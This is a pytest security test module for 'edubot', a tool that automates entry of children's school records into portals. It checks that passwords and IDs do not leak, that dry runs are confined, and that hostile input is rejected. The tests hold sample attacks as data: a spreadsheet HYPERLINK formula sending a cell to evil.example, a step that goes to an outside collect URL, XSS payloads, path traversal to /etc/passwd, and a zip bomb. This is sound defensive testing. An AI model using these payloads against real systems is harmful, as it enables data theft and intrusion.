"""Nothing leaks, nothing reaches the wrong place (issue 9).

Every run here logs in with an account whose password is distinctive, enters children whose
national IDs and names are known, and then searches every byte the run left behind and printed.

The rule for what may hold what:

* The password appears nowhere: not in any file under the run directory or edubot's data
  directory (report.json, report.html, edubot.log, the SQLite journal with its WAL and key,
  screenshots, traces — each member of each trace.zip, the network log and resources
  included), not in stdout or stderr; in plain, URL-encoded or JSON-escaped form.
* A raw national ID appears nowhere a person reads by default — reports, logs, the journal,
  the console — and neither does a child's name. It may appear inside a failed record's
  trace and screenshot: those are pictures of the portal's own page, kept so the officer can
  see what the portal showed for *that* child; masking them would make them useless. They are
  owner-only files, and `edubot purge` removes them.
* Every file under the run directory and the data directory is owner-only.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import sqlite3
import traceback
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import quote, quote_plus

import httpx
import pytest
from playwright.sync_api import Dialog, Page
from typer.testing import CliRunner

import bot.engine.pipeline
from bot.browser.launch import BrowserSession
from bot.browser.wall import OriginWall
from bot.cli.app import app
from bot.data.records import Student
from bot.engine.actions import ActionEnv, StepState, perform, take_snapshot
from bot.engine.records import PlannedRecord
from bot.engine.report_html import write_report_html
from bot.errors import PortalError, StepFailed
from bot.flow.binding import Bindings
from bot.flow.loader import load_flow
from bot.flow.model import Fill, TakeSnapshot
from bot.portals.esar.demo import write_demo_manifest
from bot.secrets import Credentials, Secret
from mock_portals.esar.app import create_app as create_esar
from mock_portals.lec.app import create_app as create_lec
from mock_portals.lec.db import Account
from mock_portals.serve import ServedApp, serve_in_thread
from tests.conftest import mock_state
from tests.e2e.conftest import FLOWS, MUNICIPAL_SCHOOL, children, write_children

pytestmark = pytest.mark.e2e

PASSWORD = "Kx7!q9-ZebraTamarind#2568"  # nobody's password; distinctive in every encoding
WRONG_PASSWORD = "Wv3$NotThePassword-ooOO"
STUDENTS_FLOW = str(FLOWS / "lec" / "students.yaml")
UPLOAD_FLOW = str(FLOWS / "esar" / "upload_sar.yaml")
MATHAYOM = "มัธยมศึกษาปีที่ 1"  # valid for edubot, not taught at the municipal school


# --- the portals, each with one account whose password is ours --------------------------------


@pytest.fixture
def lec_officer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, no_keyring: None
) -> Iterator[ServedApp]:
    """A mock LEC of our own with the municipal school's officer `officer9` (the mock has no
    HTTP route to add an account, so it is added through the app's own database object)."""
    lec_app = create_lec(tmp_path / "lec-state")
    lec_app.state.portal.db.add_account(
        Account("officer9", PASSWORD, "school", "ทดสอบ", (MUNICIPAL_SCHOOL,))
    )
    with serve_in_thread(lec_app) as served:
        monkeypatch.setenv("EDUBOT_LEC_URL", served.url)
        monkeypatch.setenv("EDUBOT_LEC_USERNAME", "officer9")
        monkeypatch.setenv("EDUBOT_LEC_PASSWORD", PASSWORD)
        yield served


@pytest.fixture
def esar_officer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, no_keyring: None
) -> Iterator[ServedApp]:
    """A mock e-SAR with the QA officer `qa9`; it refuses files over 1,715 bytes, so the
    largest demo PDF (1,728 bytes) is rejected by the portal and the others go through."""
    esar_app = create_esar(tmp_path / "esar-state", max_upload_bytes=1715)
    store = esar_app.state.portal.store
    with sqlite3.connect(store.db_path) as db:
        digest = hashlib.sha256(PASSWORD.encode()).hexdigest()
        db.execute("INSERT INTO accounts VALUES (?, ?, ?, ?)", ("qa9", digest, "ทดสอบ", "lgo_qa"))
        for code in ("3040010001", "3040010002"):
            db.execute("INSERT INTO account_schools VALUES (?, ?)", ("qa9", code))
    with serve_in_thread(esar_app) as served:
        monkeypatch.setenv("EDUBOT_ESAR_URL", served.url)
        monkeypatch.setenv("EDUBOT_ESAR_USERNAME", "qa9")
        monkeypatch.setenv("EDUBOT_ESAR_PASSWORD", PASSWORD)
        yield served


@pytest.fixture
def umask_022() -> Iterator[None]:
    """The common default umask: files must be owner-only by their writers, not by luck."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def expire_session_when_record_starts(
    monkeypatch: pytest.MonkeyPatch, portal: ServedApp, index: int
) -> None:
    """The portal drops every session just as record `index` starts: it logs in again inside
    that record, and its later attempt runs after the re-login."""
    original = bot.engine.pipeline.JournalListener.start_record

    def start_record(self: bot.engine.pipeline.JournalListener, record: PlannedRecord) -> None:
        if record.index == index:
            httpx.post(f"{portal.url}/_mock/session-expire").raise_for_status()
        original(self, record)

    monkeypatch.setattr(bot.engine.pipeline.JournalListener, "start_record", start_record)


# --- searching what a run left behind ---------------------------------------------------------


def encodings(secret: str) -> list[bytes]:
    """The forms a typed value takes in files: plain, URL-encoded (form posts), JSON-escaped."""
    forms = {secret, quote(secret, safe=""), quote_plus(secret), json.dumps(secret)[1:-1]}
    return [form.encode() for form in forms]


def blobs(root: Path) -> Iterator[tuple[str, bytes]]:
    """Every file under `root`, and every member of every zip (traces), recursively."""
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        yield from _unpacked(str(path.relative_to(root)), path.read_bytes())


def _unpacked(name: str, data: bytes) -> Iterator[tuple[str, bytes]]:
    yield name, data
    if data.startswith(b"PK\x03\x04") and not name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for member in archive.namelist():
                yield from _unpacked(f"{name}!{member}", archive.read(member))


def is_evidence(name: str) -> bool:
    """A failed record's trace or screenshot: a picture of the portal's page for that record."""
    top = name.split("!", 1)[0]
    return top.startswith("failures/") and (top.endswith("-trace.zip") or top.endswith(".png"))


def assert_nothing_leaked(
    roots: list[Path], printed: str, kids: list[Student], passwords: tuple[str, ...]
) -> int:
    """Apply the module's rule to every file under `roots` and to what was printed; return
    how many files (and zip members) were searched."""
    forbidden_everywhere = [form for pw in passwords for form in encodings(pw)]
    personal = [k.national_id.encode() for k in kids]
    personal += [name.encode() for k in kids for name in (k.first_name, k.last_name)]
    searched = 0
    for root in roots:
        for name, data in blobs(root):
            searched += 1
            for form in forbidden_everywhere:
                assert form not in data, f"the password is in {root}/{name}"
            if not is_evidence(name):
                for value in personal:
                    assert value not in data, f"{value.decode()} is in {root}/{name}"
    for pw in passwords:
        assert pw not in printed
    for kid in kids:
        for text in (kid.national_id, kid.first_name, kid.last_name):
            assert text not in printed, f"{text} was printed"
    return searched


def assert_owner_only(*roots: Path) -> None:
    for root in roots:
        for path in root.rglob("*"):
            if path.is_file():
                assert path.stat().st_mode & 0o077 == 0, f"{path} is readable by others"


def invoke(cli: CliRunner, args: list[str], capfd: pytest.CaptureFixture[str]) -> tuple[int, str]:
    result = cli.invoke(app, args)
    captured = capfd.readouterr()
    return result.exit_code, result.output + captured.out + captured.err


def report(run_dir: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((run_dir / "report.json").read_text(encoding="utf-8"))
    return data


# --- 1. the leak hunt -------------------------------------------------------------------------


def test_lec_runs_leak_neither_password_nor_ids_on_success_failure_relogin_and_wrong_password(
    cli: CliRunner,
    lec_officer: ServedApp,
    private_data_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    umask_022: None,
) -> None:
    """Record 2 is refused by the portal (a grade the school does not teach) *and* its session
    is dropped as it starts, so edubot logs in again inside that record and keeps the trace of
    the attempt after the re-login. A second run types a wrong password."""
    kids = children(3, seed=91)
    kids[1] = kids[1].model_copy(update={"grade": MATHAYOM})
    data = write_children(tmp_path / "children.xlsx", kids)
    run_dir = tmp_path / "run"
    expire_session_when_record_starts(monkeypatch, lec_officer, index=2)
    logins_before = mock_state(lec_officer)["requests"].get("POST /login.do", 0)

    code, printed = invoke(
        cli, ["run", STUDENTS_FLOW, "--data", str(data), "--run-dir", str(run_dir), "-v"], capfd
    )
    assert code == 1, printed
    records = report(run_dir)["records"]
    assert [r["status"] for r in records] == ["added", "failed", "added"]
    assert records[1]["attempts"] == 2 and records[1]["trace"]
    assert mock_state(lec_officer)["requests"]["POST /login.do"] - logins_before == 2
    write_report_html(report(run_dir), run_dir)
    trace_members = zipfile.ZipFile(run_dir / records[1]["trace"]).namelist()
    assert any(m.endswith(".trace") for m in trace_members)
    assert any(m.endswith(".network") for m in trace_members)
    # The evidence rule is about *this* child: its trace shows the portal's page for it.
    trace_text = b"".join(blob for name, blob in blobs(run_dir) if "-trace.zip!" in name)
    assert kids[1].national_id.encode() in trace_text

    monkeypatch.setenv("EDUBOT_LEC_PASSWORD", WRONG_PASSWORD)
    wrong_dir = tmp_path / "wrong"
    code, wrong_printed = invoke(
        cli, ["run", STUDENTS_FLOW, "--data", str(data), "--run-dir", str(wrong_dir)], capfd
    )
    assert code != 0
    assert "รหัสผ่าน" in wrong_printed or "password" in wrong_printed.lower()

    searched = assert_nothing_leaked(
        [run_dir, wrong_dir, private_data_dir],
        printed + wrong_printed,
        kids,
        (PASSWORD, WRONG_PASSWORD),
    )
    assert searched > 10  # report, html, log, png, trace members, journal, key…
    assert (private_data_dir / "journal.sqlite3").exists()
    assert_owner_only(run_dir, wrong_dir, private_data_dir)


def test_esar_runs_leak_no_password_on_success_rejection_and_relogin(
    cli: CliRunner,
    esar_officer: ServedApp,
    private_data_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    umask_022: None,
) -> None:
    """School 1's PDF is over the portal's limit (rejected, trace kept); the session is dropped
    as school 2 starts (re-login inside it); school 3 goes straight through."""
    manifest = write_demo_manifest(tmp_path / "sar")
    run_dir = tmp_path / "run"
    expire_session_when_record_starts(monkeypatch, esar_officer, index=2)

    code, printed = invoke(
        cli,
        ["run", UPLOAD_FLOW, "--data", str(manifest), "--run-dir", str(run_dir), "--confirm"],
        capfd,
    )
    assert code == 1, printed
    records = report(run_dir)["records"]
    assert [r["status"] for r in records] == ["failed", "submitted", "submitted"], printed
    assert records[0]["trace"] and records[1]["attempts"] == 2
    write_report_html(report(run_dir), run_dir)

    monkeypatch.setenv("EDUBOT_ESAR_PASSWORD", WRONG_PASSWORD)
    wrong_dir = tmp_path / "wrong"
    code, wrong_printed = invoke(
        cli,
        ["run", UPLOAD_FLOW, "--data", str(manifest), "--run-dir", str(wrong_dir), "--confirm"],
        capfd,
    )
    assert code != 0

    assert_nothing_leaked(
        [run_dir, wrong_dir, private_data_dir],
        printed + wrong_printed,
        [],
        (PASSWORD, WRONG_PASSWORD),
    )
    assert_owner_only(run_dir, wrong_dir, private_data_dir)


# --- 2. a failing fill of the password --------------------------------------------------------


def _fill_password_step(tmp_path: Path, label: str) -> Fill:
    flow_file = tmp_path / "flows" / "pw.yaml"
    flow_file.parent.mkdir(parents=True, exist_ok=True)
    flow_file.write_text(
        "name: pw\nportal: lec\nsteps:\n"
        f'  - fill: {{label: "{label}", value: "${{secret.lec.password}}", timeout_ms: 500}}\n',
        encoding="utf-8",
    )
    step = load_flow(flow_file).steps[0]
    assert isinstance(step, Fill)
    return step


@pytest.mark.parametrize(
    "page_html",
    [
        "<p>no form at all</p>",  # the field never appears: a timeout
        '<label>รหัสผ่าน <span id="x">not a field</span></label>',  # not fillable
        '<label for="p">รหัสผ่าน</label><input id="p" type="password" disabled>',
    ],
)
def test_a_failing_fill_of_the_password_never_shows_it(
    own_page: Page, tmp_path: Path, page_html: str
) -> None:
    page = own_page
    page.set_content(page_html)
    creds = Credentials("officer9", Secret(PASSWORD, "lec.password"), "environment")
    env = ActionEnv(Bindings(None, {"lec": creds}), tmp_path, False, 500)
    with pytest.raises(PortalError) as caught:
        perform(page, _fill_password_step(tmp_path, "รหัสผ่าน"), env, StepState())
    shown = caught.value
    assert PASSWORD not in str(shown) and PASSWORD not in repr(shown)
    assert all(PASSWORD not in str(arg) for arg in shown.args)
    # What a traceback, a log line or the console would show of it:
    printed = "".join(traceback.format_exception(shown))
    assert PASSWORD not in printed and PASSWORD not in caught.exconly()


def test_the_error_of_a_failing_password_fill_holds_no_copy_of_it(
    own_page: Page, tmp_path: Path
) -> None:
    page = own_page
    page.set_content('<label for="p">รหัสผ่าน</label><input id="p" type="password" disabled>')
    creds = Credentials("officer9", Secret(PASSWORD, "lec.password"), "environment")
    env = ActionEnv(Bindings(None, {"lec": creds}), tmp_path, False, 500)
    with pytest.raises(PortalError) as caught:
        perform(page, _fill_password_step(tmp_path, "รหัสผ่าน"), env, StepState())
    hidden = caught.value.__cause__ or caught.value.__context__
    assert hidden is None or PASSWORD not in str(hidden)


# --- 3. the dry-run wall ----------------------------------------------------------------------


def test_dry_run_at_a_non_loopback_address_exits_2_before_a_browser_opens(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_browser(*args: object, **kwargs: object) -> None:
        raise AssertionError("a browser was opened")

    monkeypatch.setattr(bot.engine.pipeline, "BrowserSession", no_browser)
    monkeypatch.setenv("EDUBOT_LEC_URL", "http://10.20.30.40:8080")
    data = write_children(tmp_path / "children.xlsx", children(1))
    result = cli.invoke(app, ["run", STUDENTS_FLOW, "--data", str(data), "--dry-run"])
    assert result.exit_code == 2, result.output
    assert "10.20.30.40" in result.output and "not on this machine" in result.output
    assert "Nothing was sent" in result.output


class _RecordingSession(BrowserSession):
    sessions: ClassVar[list[_RecordingSession]] = []

    def __enter__(self) -> BrowserSession:
        _RecordingSession.sessions.append(self)
        return super().__enter__()


def test_a_flow_that_leaves_the_machine_in_a_dry_run_is_stopped_by_the_browser(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    flow = tmp_path / "flows" / "away.yaml"
    flow.parent.mkdir()
    flow.write_text(
        "name: away\nportal: lec\nsteps:\n"
        "  - goto: index.jsp\n"
        "  - goto: http://203.0.113.9/collect?from=edubot\n",
        encoding="utf-8",
    )
    _RecordingSession.sessions = []
    monkeypatch.setattr(bot.engine.pipeline, "BrowserSession", _RecordingSession)
    result = cli.invoke(app, ["run", str(flow), "--dry-run", "--run-dir", str(tmp_path / "r")])
    assert result.exit_code != 0, result.output
    (session,) = _RecordingSession.sessions
    assert session.wall.blocked == ["http://203.0.113.9/collect?from=edubot"]
    assert "203.0.113.9" in result.output
    assert "ERR_BLOCKED_BY_CLIENT" in result.output or "wall" in result.output


def test_the_snapshot_download_refuses_a_non_loopback_page_in_a_dry_run(
    own_page: Page, tmp_path: Path
) -> None:
    """`page.request` does not pass through the context's routes, so the snapshot asks the
    wall itself; here the page claims to be a real portal (served by a route, no network)."""
    page = own_page
    page.route("http://203.0.113.9/**", lambda route: route.fulfill(body="<p>portal</p>"))
    page.goto("http://203.0.113.9/student/list.do")
    wall = OriginWall(enforce=True)
    env = ActionEnv(Bindings(), tmp_path, False, 1000, may_request=wall.allows)
    step = TakeSnapshot.model_validate({"download": "report/rpt318.do", "line": 1})
    with pytest.raises(StepFailed, match="may not be requested"):
        take_snapshot(page, step, env, Bindings())


# --- 4. hostile input -------------------------------------------------------------------------


@pytest.fixture
def school(lec: ServedApp, monkeypatch: pytest.MonkeyPatch, no_keyring: None) -> ServedApp:
    monkeypatch.setenv("EDUBOT_LEC_URL", lec.url)
    monkeypatch.setenv("EDUBOT_LEC_USERNAME", "school")
    monkeypatch.setenv("EDUBOT_LEC_PASSWORD", "demo")
    return lec


def portal_requests(state: dict[str, Any]) -> dict[str, int]:
    """The requests the portal served, leaving out the test's own calls to /_mock/."""
    return {k: v for k, v in state["requests"].items() if "/_mock/" not in k}


def assert_refused_and_nothing_sent(
    cli: CliRunner, data: Path, lec: ServedApp, *expected: str
) -> str:
    before = mock_state(lec)
    result = cli.invoke(app, ["run", STUDENTS_FLOW, "--data", str(data)])
    assert result.exit_code == 2, result.output
    for text in expected:
        assert text in result.output
    assert "nothing was sent" in result.output.lower()
    after = mock_state(lec)
    assert after["students"] == before["students"]
    assert portal_requests(after) == portal_requests(before)  # not even a login page
    return result.output


def _with_cells(path: Path, cells: dict[str, str]) -> Path:
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book.active
    assert sheet is not None
    headers = {cell.value: cell.column_letter for cell in sheet[1] if cell.value}
    for header, value in cells.items():
        sheet[f"{headers[header]}2"] = value
    book.save(path)
    return path


def test_formulas_are_refused_not_evaluated(
    cli: CliRunner, school: ServedApp, tmp_path: Path
) -> None:
    data = write_children(tmp_path / "children.xlsx", children(2, seed=3))
    _with_cells(data, {"ชื่อ": '=HYPERLINK("http://evil.example/?q="&A2,"คลิก")', "ห้องเรียน": "=1+1"})
    assert_refused_and_nothing_sent(cli, data, school, "formula")

    csv = tmp_path / "children.csv"
    csv.write_text('national_id,first_name\n=1+1,=HYPERLINK("x")\n', encoding="utf-8")
    assert_refused_and_nothing_sent(cli, csv, school)


def test_a_file_over_the_size_limit_is_refused_unread(
    cli: CliRunner, school: ServedApp, tmp_path: Path
) -> None:
    huge = tmp_path / "children.csv"
    with huge.open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)  # sparse: large on paper, instant to make
    assert_refused_and_nothing_sent(cli, huge, school, "too large")


def test_a_zip_bomb_xlsx_is_refused_before_it_is_expanded(
    cli: CliRunner, school: ServedApp, tmp_path: Path
) -> None:
    bomb = tmp_path / "children.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(210):  # 210 MB of zeros, a few hundred KB on disk
                member.write(chunk)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    assert_refused_and_nothing_sent(cli, bomb, school, "refused as unsafe")


def test_script_in_a_name_is_refused_with_the_cell_named(
    cli: CliRunner, school: ServedApp, tmp_path: Path
) -> None:
    data = write_children(tmp_path / "children.xlsx", children(1, seed=4))
    _with_cells(data, {"ชื่อ": "<script>alert(1)</script>"})
    output = assert_refused_and_nothing_sent(cli, data, school, "ชื่อ")
    assert "<script>" not in output  # the bad cell is named, its personal value masked


def test_markup_from_the_run_shows_as_text_in_report_html(
    cli: CliRunner, school: ServedApp, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    """A sheet may be named `<img src=x onerror=alert(1)>` (Excel allows it) and it is copied
    into the report; a portal message may carry a name. Neither runs in report.html."""
    sheet_name = "<img src=x onerror=alert(1)>"
    message = "<script>alert(2)</script> ไม่ผ่าน"
    kids = children(1, seed=8)
    data = write_children(tmp_path / "children.xlsx", kids)
    from openpyxl import load_workbook

    book = load_workbook(data)
    assert book.active is not None
    book.active.title = sheet_name
    book.save(data)
    run_dir = tmp_path / "r"
    result = cli.invoke(app, ["run", STUDENTS_FLOW, "--data", str(data), "--run-dir", str(run_dir)])
    assert result.exit_code == 0, result.output
    summary = report(run_dir)
    assert summary["records"][0]["sheet"] == sheet_name
    summary["records"][0]["message"] = message
    html = write_report_html(summary, run_dir)

    page: Page = request.getfixturevalue("own_page")  # after the CLI's own browser closed
    dialogs: list[Dialog] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.goto(html.as_uri())
    record = page.locator("tr.record").first
    assert sheet_name in record.inner_text()
    assert "<script>alert(2)</script>" in record.inner_text()
    assert page.locator("img[src=x], script").count() == 0
    assert dialogs == []


@pytest.mark.parametrize("where", ["../../etc/passwd", "/etc/passwd", "symlink"])
def test_sar_paths_outside_the_manifest_folder_are_refused(
    cli: CliRunner, esar: ServedApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    from openpyxl import load_workbook

    monkeypatch.setenv("EDUBOT_ESAR_URL", esar.url)
    manifest = write_demo_manifest(tmp_path / "sar")
    if where == "symlink":
        (tmp_path / "sar" / "pdf" / "linked.pdf").symlink_to("/etc/hostname")
        where = "pdf/linked.pdf"
    book = load_workbook(manifest)
    book["SAR"]["E2"] = where
    book.save(manifest)
    before = mock_state(esar)
    result = cli.invoke(app, ["run", UPLOAD_FLOW, "--data", str(manifest), "--confirm"])
    assert result.exit_code == 2, result.output
    assert "E2" in result.output and "outside" in result.output
    after = mock_state(esar)
    assert after["submissions"] == [] and portal_requests(after) == portal_requests(before)


# --- helpers used above, kept honest ----------------------------------------------------------


def test_the_search_finds_a_password_hidden_in_a_trace_member(tmp_path: Path) -> None:
    """The hunt would catch a leak: a URL-encoded password in a zipped network log."""
    trace = tmp_path / "failures" / "0001-trace.zip"
    trace.parent.mkdir()
    with zipfile.ZipFile(trace, "w") as archive:
        archive.writestr("trace.network", f'{{"postData": "password={quote_plus(PASSWORD)}"}}')
    with pytest.raises(AssertionError, match="password is in"):
        assert_nothing_leaked([tmp_path], "", [], (PASSWORD,))
